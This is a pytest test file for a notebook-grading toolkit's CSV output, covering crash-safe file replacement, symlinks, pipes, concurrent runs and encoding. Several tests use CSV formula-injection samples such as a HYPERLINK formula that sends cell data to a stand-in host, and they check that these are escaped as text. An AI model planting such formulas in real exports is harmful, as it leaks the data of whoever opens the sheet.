"""The grades CSV: replaced whole when a run ends (Ctrl-C too), never emptied by a run that is killed.

Grading itself is replaced by a stand-in (`grade_notebook` patched): these tests are about the file.
"""

import csv
import os
import signal
import stat
import subprocess
import sys
import threading
from pathlib import Path

from full_disk import fill_disk_after

import toolkit.exercises.grade as grade
from toolkit.cli.main import main
from toolkit.exercises.grade import Row

OLD = "notebook,exercise,passed,feedback\nlast-week.ipynb,w6.round_trips,1,passed\n"

KILLED_RUN = """
import sys
from pathlib import Path

import toolkit.exercises.grade as grade
from toolkit.cli.main import main

def grade_one(path, seconds=120):
    if path.name == "b.ipynb":  # the first is graded: say so, then hang until killed
        print("graded a", flush=True)
        sys.stdin.read()
    return [grade.Row(str(path), "w6.round_trips", True, "passed")]

grade.grade_notebook = grade_one
main(["grade", sys.argv[1], "--out", sys.argv[2]])
"""


def notebooks(folder: Path, *names: str) -> Path:
    folder.mkdir(exist_ok=True)
    for name in names:
        (folder / name).write_text("{}")
    return folder


def passing(path, seconds=120):
    return [Row(str(path), "w6.round_trips", True, "passed")]


def read_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_a_run_killed_hard_leaves_the_old_csv_and_the_next_run_replaces_its_partial_file(tmp_path, monkeypatch):
    """Before: the CSV was emptied when the run started, so a run killed with SIGKILL (or a power
    cut) an hour in left a file holding only what it had graded: last week's grades were gone."""
    submissions = notebooks(tmp_path / "sub", "a.ipynb", "b.ipynb")
    out = tmp_path / "grades.csv"
    out.write_text(OLD)
    child = subprocess.Popen(
        [sys.executable, "-c", KILLED_RUN, str(submissions), str(out)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert child.stdout.readline() == "graded a\n"  # it is half-way, hanging on b
        assert out.read_text() == OLD  # while it runs, too
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
        child.stdin.close()
        child.stdout.close()
    assert out.read_text() == OLD
    partial = tmp_path / "grades.csv.partial"
    assert [row[0] for row in read_rows(partial)] == ["notebook", str(submissions / "a.ipynb")]

    monkeypatch.setattr(grade, "grade_notebook", passing)
    assert main(["grade", str(submissions), "--out", str(out)]) == 0
    assert [row[0] for row in read_rows(out)][1:] == [str(submissions / "a.ipynb"), str(submissions / "b.ipynb")]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv", "sub"]


def test_ctrl_c_replaces_the_old_csv_with_the_rows_graded_so_far_and_leaves_no_partial_file(
    tmp_path, monkeypatch, capsys
):
    submissions = notebooks(tmp_path / "sub", "a.ipynb", "b.ipynb")
    out = tmp_path / "grades.csv"
    out.write_text(OLD)

    def grade_one(path, seconds=120):
        if path.name == "b.ipynb":
            raise KeyboardInterrupt
        return passing(path)

    monkeypatch.setattr(grade, "grade_notebook", grade_one)
    assert main(["grade", str(submissions), "--out", str(out)]) == 130
    assert read_rows(out) == [grade.HEADER, [str(submissions / "a.ipynb"), "w6.round_trips", "1", "passed"]]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv", "sub"]
    assert "its 1 row is in" in capsys.readouterr().err


def test_a_disk_that_fills_part_way_leaves_the_old_csv_whole_and_no_partial_file(tmp_path, monkeypatch, capsys):
    """Before: the partial file, cut off mid-row by the full disk, still replaced last week's grades
    (a half row at its end, the rest lost); now a run whose rows could not all be written leaves
    the old CSV as it was and removes the partial file."""
    submissions = notebooks(tmp_path / "sub", "a.ipynb", "b.ipynb")
    out = tmp_path / "grades.csv"
    out.write_text(OLD)
    monkeypatch.setattr(grade, "grade_notebook", passing)
    fill_disk_after(monkeypatch, len(",".join(grade.HEADER)) + 20)
    assert main(["grade", str(submissions), "--out", str(out)]) == 2
    monkeypatch.undo()
    assert out.read_text() == OLD
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv", "sub"]
    assert capsys.readouterr().err == f"error: [Errno 28] No space left on device: '{out}'\n"


def test_a_linked_csv_stays_a_link_and_the_file_it_names_keeps_its_permissions(tmp_path, monkeypatch):
    submissions = notebooks(tmp_path / "sub", "a.ipynb")
    (tmp_path / "private").mkdir()
    real = tmp_path / "private" / "grades.csv"
    real.write_text(OLD)
    real.chmod(0o600)
    link = tmp_path / "grades.csv"
    link.symlink_to(real)
    monkeypatch.setattr(grade, "grade_notebook", passing)
    assert main(["grade", str(submissions), "--out", str(link)]) == 0
    assert link.is_symlink() and read_rows(real)[1][0] == str(submissions / "a.ipynb")
    assert stat.S_IMODE(real.stat().st_mode) == 0o600
    assert sorted(p.name for p in real.parent.iterdir()) == ["grades.csv"]


def test_a_csv_that_is_no_regular_file_is_written_as_the_rows_come(tmp_path):
    """A pipe (as `--out /dev/stdout` is under `| tee`): nothing to replace, nothing to lose."""
    fifo = tmp_path / "grades.fifo"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    grade.write_csv([Row("a.ipynb", "w6.round_trips", True, "passed")], fifo)
    reader.join(timeout=30)  # a guard: it ends as soon as the writer closes the pipe
    assert received == [b"notebook,exercise,passed,feedback\r\na.ipynb,w6.round_trips,1,passed\r\n"]
    assert stat.S_ISFIFO(fifo.stat().st_mode) and sorted(os.listdir(tmp_path)) == ["grades.fifo"]


def test_an_out_whose_partial_file_is_a_submission_is_refused(tmp_path, capsys):
    submissions = notebooks(tmp_path / "sub", "hw.ipynb.partial")
    kept = (submissions / "hw.ipynb.partial").read_text()
    out = submissions / "hw.ipynb"
    assert main(["grade", str(submissions / "hw.ipynb.partial"), "--out", str(out)]) == 2
    assert capsys.readouterr().err == (
        f"error: grade --out {out}: the CSV is written first to {out}.partial, one of the files to grade, and "
        "would overwrite it; give another file, e.g. --out grades.csv\n"
    )
    assert (submissions / "hw.ipynb.partial").read_text() == kept and not out.exists()


def test_where_no_partial_file_can_be_made_the_csv_is_still_written_in_place(tmp_path, monkeypatch):
    """A folder this user may not add to has the same effect as this: the partial file cannot be made."""
    submissions = notebooks(tmp_path / "sub", "a.ipynb")
    out = tmp_path / "grades.csv"
    out.write_text(OLD)
    (tmp_path / "grades.csv.partial").mkdir()
    (tmp_path / "grades.csv.partial" / "kept").write_text("someone's")
    monkeypatch.setattr(grade, "grade_notebook", passing)
    assert main(["grade", str(submissions), "--out", str(out)]) == 0
    assert read_rows(out)[1][0] == str(submissions / "a.ipynb")
    assert (tmp_path / "grades.csv.partial" / "kept").read_text() == "someone's"


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_a_text_a_spreadsheet_would_read_as_a_formula_is_written_as_text(tmp_path):
    """Before: a notebook named, tagged or printing `=HYPERLINK(…)` put that formula in the teacher's
    grades, where a spreadsheet ran it (sending the next cell's data away when clicked)."""
    rows = [Row(text, text, False, text) for text in FORMULAS]
    out = grade.write_csv(rows, tmp_path / "grades.csv")
    written = ["'" + text for text in FORMULAS[:4]] + ["\\t=1+1", "\\r=1+1"]  # a row escapes a tab and a CR
    assert read_rows(out)[1:] == [[text, text, "0", text] for text in written]


def test_a_formula_in_a_submissions_name_and_its_exercise_tag_reaches_the_csv_as_text(tmp_path, monkeypatch):
    """The names come from the learner: the file (graded from its own folder) and a cell's tag."""
    import nbformat

    monkeypatch.chdir(tmp_path)
    name = '=HYPERLINK("evil.example","open").ipynb'
    formula = '=HYPERLINK("http://evil.example/?d="&A1)'  # a tag holds no comma
    tag = "exercise:" + formula
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", metadata={"tags": [tag]})]), name)
    ran = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", metadata={"tags": [tag]}, execution_count=1)])
    monkeypatch.setattr(grade, "_execute", lambda path, seconds: (ran, ""))
    assert main(["grade", name, "--out", "grades.csv"]) == 0
    assert read_rows(tmp_path / "grades.csv")[1:] == [["'" + name, "'" + formula, "0", grade.NO_CHECK]]
    assert all(not text.startswith(("=", "+", "-", "@")) for row in read_rows(tmp_path / "grades.csv") for text in row)


def test_the_grades_file_starts_with_a_bom_and_stdout_gets_none(tmp_path, capsys):
    """Before: UTF-8 without a BOM: Excel showed the Chinese feedback as mojibake. Now a file gets
    the BOM (`utf-8-sig`, as pandas users write for Excel); a stream, read by a program, gets none."""
    rows = [Row("a.ipynb", "w6.round_trips", False, "还差一步: 检查订单号")]
    path = grade.write_csv(rows, tmp_path / "grades.csv")
    raw = path.read_bytes()
    assert (
        raw == "\ufeffnotebook,exercise,passed,feedback\r\na.ipynb,w6.round_trips,0,还差一步: 检查订单号\r\n".encode()
    )
    assert read_rows(path)[0][0] == "notebook"
    notebooks(tmp_path / "sub", "a.ipynb")
    import io

    stream = io.StringIO()
    grade.grade_into_csv([tmp_path / "sub" / "a.ipynb"], stream, 5, [])
    assert stream.getvalue().startswith("notebook,exercise,")


HANGING_RUN = KILLED_RUN.replace("sys.stdin.read()", "sys.stdin.readline()")


def test_a_second_run_given_the_same_out_while_one_runs_is_refused_and_the_first_keeps_its_rows(
    tmp_path, monkeypatch, capsys
):
    """Before: both runs wrote `grades.csv.partial`; the second removed the first's and made its own, the first
    renamed the second's half-written file over grades.csv when it ended (its own rows gone, and it said they were
    written), and the second then failed at its rename. Now the running one holds its partial file."""
    submissions = notebooks(tmp_path / "sub", "a.ipynb", "b.ipynb")
    out = tmp_path / "grades.csv"
    out.write_text(OLD)
    first = subprocess.Popen(
        [sys.executable, "-c", HANGING_RUN, str(submissions), str(out)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert first.stdout.readline() == "graded a\n"  # half-way, holding grades.csv.partial
        monkeypatch.setattr(grade, "grade_notebook", passing)
        assert main(["grade", str(submissions), "--out", str(out)]) == 2
        assert capsys.readouterr().err == (
            f"error: {out}: another `toolkit grade` run is writing this CSV now (to {out}.partial), so this one "
            f"writes nothing to it and leaves it as it is. Fix: wait for that run to end, or give another file (--out)\n"
        )
        assert out.read_text() == OLD
        first.stdin.write("\n")
        first.stdin.flush()
        assert first.wait(timeout=60) == 0  # a guard: it ends as soon as b is graded
    finally:
        first.kill()
        first.wait()
        first.stdin.close()
        first.stdout.close()
    assert [row[0] for row in read_rows(out)][1:] == [str(submissions / "a.ipynb"), str(submissions / "b.ipynb")]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv", "sub"]
    assert main(["grade", str(submissions / "a.ipynb"), "--out", str(out)]) == 0  # its file let go: the next run writes
    assert [row[0] for row in read_rows(out)][1:] == [str(submissions / "a.ipynb")]


def test_a_partial_file_left_as_a_link_is_removed_and_never_written_through(tmp_path, monkeypatch):
    submissions = notebooks(tmp_path / "sub", "a.ipynb")
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("someone's")
    (tmp_path / "grades.csv.partial").symlink_to(elsewhere)
    monkeypatch.setattr(grade, "grade_notebook", passing)
    assert main(["grade", str(submissions), "--out", str(tmp_path / "grades.csv")]) == 0
    assert elsewhere.read_text() == "someone's"
    assert read_rows(tmp_path / "grades.csv")[1][0] == str(submissions / "a.ipynb")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["elsewhere.txt", "grades.csv", "sub"]
